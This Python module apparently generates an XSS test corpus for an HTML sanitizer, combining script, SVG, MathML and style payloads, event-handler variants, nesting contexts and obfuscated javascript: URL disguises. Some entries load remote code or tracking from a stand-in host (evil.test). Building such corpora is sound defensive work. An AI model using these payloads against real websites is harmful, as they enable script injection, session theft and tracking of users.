"""Attacks by HTML, generated: families of vectors, each as itself and in every nesting; addresses in every disguise."""

from collections.abc import Iterator

# What would run if it came through, family by family. ALERT is what each tries to call.
ALERT = "alert(1)"

TAGS = (
    f"<script>{ALERT}</script>",
    f"<ScRiPt\n>{ALERT}</sCrIpT >",
    f"<script/x>{ALERT}</script/>",
    "<script src=//evil.test/x.js></script>",
    f"<script src=data:text/javascript,{ALERT}></script>",
    f"<<script>{ALERT}//<</script>",
    f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    f"<script>{ALERT}",
    "<script type=module>import('//evil.test')</script>",
    f"<iframe src=javascript:{ALERT}></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{ALERT}&lt;/script&gt;'></iframe>",
    f"<frameset onload={ALERT}><frame src=javascript:{ALERT}></frameset>",
    f"<object data=javascript:{ALERT}></object>",
    "<object data=//evil.test/x.swf><param name=allowScriptAccess value=always></object>",
    f"<embed src=javascript:{ALERT}>",
    "<applet code=X.class archive=//evil.test/x.jar></applet>",
    f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg><script xlink:href=data:,{ALERT} /></svg>",
    f"<svg><a xlink:href=javascript:{ALERT}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={ALERT} attributeName=x></svg>",
    f"<svg><set attributeName=href to=javascript:{ALERT} /></svg>",
    f"<svg><foreignObject><img src=x onerror={ALERT}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={ALERT}>#x'></svg>",
    f"<math href=javascript:{ALERT}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{ALERT}>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}>",
    f"<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={ALERT}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={ALERT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ALERT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
    f"<template><img src=x onerror={ALERT}></template>",
    f"<title><img src=x onerror={ALERT}></title>",
    f"<textarea><img src=x onerror={ALERT}></textarea>",
    f"<xmp><img src=x onerror={ALERT}></xmp>",
    f"<noembed><img src=x onerror={ALERT}></noembed>",
    f"<plaintext><img src=x onerror={ALERT}>",
    f"<!--><img src=x onerror={ALERT}>-->",
    f"<!--[if gte IE 4]><script>{ALERT}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={ALERT}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={ALERT}>",
    f"<!DOCTYPE x [<!ENTITY y '{ALERT}'>]><p>&y;",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    f"<link rel=import href=data:text/html,<script>{ALERT}</script>>",
    "<style>@import '//evil.test/x.css';</style>",
    f"<style>*{{background:url(javascript:{ALERT})}}</style>",
    f"<style><!--</style><script>{ALERT}//--></script>",
    f"<form action=javascript:{ALERT}><input type=submit></form>",
    f"<form id=f></form><button form=f formaction=javascript:{ALERT}>x</button>",
    f"<input onfocus={ALERT} autofocus>",
    f"<input type=image src=x onerror={ALERT}>",
    f"<isindex action=javascript:{ALERT} type=image>",
    f"<select onfocus={ALERT} autofocus><option>x</select>",
    f"<select><style></select><img src=x onerror={ALERT}></style>",
    f"<keygen autofocus onfocus={ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f"<video poster=javascript:{ALERT}></video>",
    f"<audio src=x onerror={ALERT}></audio>",
    f"<details open ontoggle={ALERT}>x</details>",
    f"<marquee onstart={ALERT}>x</marquee>",
    f"<dialog open onclose={ALERT}>x</dialog>",
    f"<x-custom onclick={ALERT} contenteditable>x</x-custom>",
    f"<img src=x onerror={ALERT}>",
    f"<img src=x:x onerror\n=\n{ALERT}//",
    f"<img/src=`x`onerror={ALERT}>",
    f"<img src='x' x='>' onerror={ALERT}>",
    f'<img """><script>{ALERT}</script>">',
    f"<img alt='x\" onerror={ALERT} \"' src=x>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img srcset='//evil.test/a 1x' src=//evil.test/b>",
    "<img src=//evil.test/open.gif width=1 height=1>",
    "<img src=cid:nobody@evil.test alt=x>",
    "<picture><source srcset=//evil.test/a><img src=//evil.test/b></picture>",
    f"<body onload={ALERT} background=//evil.test/x>",
    f"<table background=javascript:{ALERT}><td background=//evil.test/x>x</table>",
    f"<a href='#' onclick={ALERT} style=x ping=//evil.test>x</a>",
    "<a href=//evil.test>x</a><a href=/me>y</a><a href=?x>z</a>",
    "<a href=http://x.test target=_top download rel=opener>x</a>",
    "<a id=content name=body class=primary href=http://x.test>x</a>",
    "<p id=__proto__ class='top sheet' role=alert aria-label=x tabindex=1 contenteditable slot=x part=y is=z>x</p>",
    f'<p style="width:expression({ALERT});color:red">x</p>',
    f"<p style=\"background:url('javascript:{ALERT}')\">x</p>",
    '<p style="background-image:url(//evil.test/x);position:fixed;top:0">x</p>',
    '<p style="behavior:url(x.htc);-moz-binding:url(//evil.test/x)">x</p>',
    "<p style='color:red;}body{display:none'>x</p>",
    "<p style='c\\6flor:red;color:\\75rl(//evil.test)'>x</p>",
    "<p style='color:/**/url(//evil.test);font-weight:bold/*'>x</p>",
    "<p style='--x:url(//evil.test);background:var(--x)'>x</p>",
    "<td colspan=99999999 rowspan=-1>x</td>",
    "<ol start=99999999999 type='\"><script>'><li value=-9>x</ol>",
    f"<p lang='\"><img src=x onerror={ALERT}>' dir=javascript>x</p>",
    f"<b title='{ALERT}' onmouseover={ALERT}>x</b>",
    f'<p title="</p><img src=x onerror={ALERT}>" onpointerenter={ALERT}>x</p>',
    f'<abbr title="--><script>{ALERT}</script>">x</abbr>',
)

EVENTS = (
    "onabort onanimationend onauxclick onbeforeinput onblur onclick oncopy ondrag onerror onfocusin onload onmousemove "  # noqa: SIM905
    "onpaste onpointerdown onscroll onscrollend ontouchstart ontransitionend onwheel ONCLICK on\u017fcroll".split()
)
HOSTS = "a b blockquote br col del div h2 hr img li ol p pre q span table td tr ul".split()  # noqa: SIM905

NESTINGS = (
    "{}",
    "<div><p>before {} after</p></div>",
    "<table><tr><td>{}</td></tr></table>",
    "<table>{}",
    "<svg>{}</svg>",
    "<svg><desc>{}</desc></svg>",
    "<math><mtext>{}</mtext></math>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<noscript>{}</noscript>",
    "<title>{}</title>x</title>",
    "<textarea>{}</textarea>",
    "<select><option>{}</select>",
    "<style>{}</style>",
    "<p title='{}",
    "<!-- {} -->",
    "<!-- --!>{}",
    "<a href=http://x.test>{}</a>",
    "<form><form>{}",
    "<p><b><i><a href=http://x.test><div>{}</p></b></a>",
    "<xmp></xmp>{}<plaintext>",
    "<template>{}</template>{}",
    "\ufeff<html><head><body>{}</body></html>{}",
    "<p\x00>{}\x00</p>",
    "<a<b>{}</a<b>",
)

SCHEMES = ("javascript", "vbscript", "data", "file", "blob", "livescript", "view-source", "feed:javascript")
PLACES = (
    '<a href="{}">x</a>',
    "<a href='{}' title='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}" alt="x">',
    '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q>',
    '<del cite="{}">x</del>',
    '<table background="{}"><tr><td>x</table>',
    '<p style="background:url({})">x</p>',
    '<td bgcolor="{}">x</td>',
    '<area href="{}">',
    '<svg><a href="{}"><text>x</text></a></svg>',
)


def all_attacks() -> Iterator[str]:
    """Every attack once; well over a thousand."""
    for nesting in NESTINGS:
        yield from (nesting.replace("{}", attack) for attack in TAGS)
    for host in HOSTS:
        for place, event in enumerate(EVENTS):
            yield f"<{host} {event}{('=', ' = ', '/=', chr(12) + '=')[place % 4]}{ALERT} x>y</{host}>"
    for scheme in SCHEMES:
        for address in disguises(scheme):
            yield from (place.replace("{}", address) for place in PLACES)


def disguises(scheme: str) -> Iterator[str]:
    """An address of this scheme in the ways a browser still reads, or once read, as such."""
    payload = f":{ALERT}"
    yield scheme + payload
    yield scheme.upper() + payload
    yield "".join(c.upper() if place % 2 else c for place, c in enumerate(scheme)) + payload
    yield "".join(f"&#{ord(c)};" for c in scheme) + payload
    yield "".join(f"&#x{ord(c):06x}" for c in scheme) + payload
    yield f"{scheme[:3]}&Tab;{scheme[3:]}{payload}"
    yield f"{scheme[:3]}\n{scheme[3:]}&NewLine;{payload}"
    yield f"&#1;&#14; {scheme}{payload}"
    yield f"{scheme}&colon;{ALERT}"
    yield f"%{ord(scheme[0]):02x}{scheme[1:]}{payload}"
    yield f"\u200b{scheme}\x00{payload}"
    yield f"http://x.test/ {scheme}{payload}"
